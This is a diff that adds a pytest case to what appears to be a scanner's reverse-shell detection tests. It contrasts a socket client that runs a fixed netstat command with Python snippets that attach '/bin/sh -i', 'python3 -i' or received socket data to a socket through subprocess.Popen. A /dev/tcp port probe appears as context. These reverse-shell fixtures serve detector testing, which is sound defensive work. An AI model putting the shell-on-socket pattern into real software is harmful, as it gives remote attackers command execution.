@@ -319,6 +319,18 @@ def test_commands_from_a_socket_versus_a_local_control_socket() -> None:
     assert "PV-BEH-REVSHELL" not in ids(run(R, local))
 
 
+
+def test_a_socket_beside_a_fixed_command_versus_a_shell_on_the_socket() -> None:
+    """A monitoring client talks to its agent over a socket and, elsewhere, runs ``netstat
+    -an``: nothing received can choose what runs. A fixed ``/bin/sh -i`` wired to the same
+    socket is a reverse shell, fixed text or not."""
+    head = "import socket, subprocess\ns = socket.socket()\ns.connect(ADDRESS)\nreply = s.recv(4)\n"
+    netstat = py(head + "def ports():\n    return subprocess.check_output(['netstat', '-an'])\n")
+    assert severities(R, netstat, "PV-BEH-REVSHELL") == [Severity.LOW]
+    for command in ("['/bin/sh', '-i']", "['python3', '-i']", "reply.decode()"):
+        shell = py(head + f"p = subprocess.Popen({command}, stdin=s.fileno(), stdout=s.fileno())\n")
+        assert severities(R, shell, "PV-BEH-REVSHELL") == [Severity.HIGH], command
+
 def test_a_port_probe_through_dev_tcp_is_no_shell() -> None:
     """pytest-testinfra checks that a port opens with ``cat < /dev/null > /dev/tcp/h/p``."""
     probe = py("CHECK = \"timeout 1 bash -c 'cat < /dev/null > /dev/tcp/%s/%s'\"\n", stage=Stage.RUNTIME)
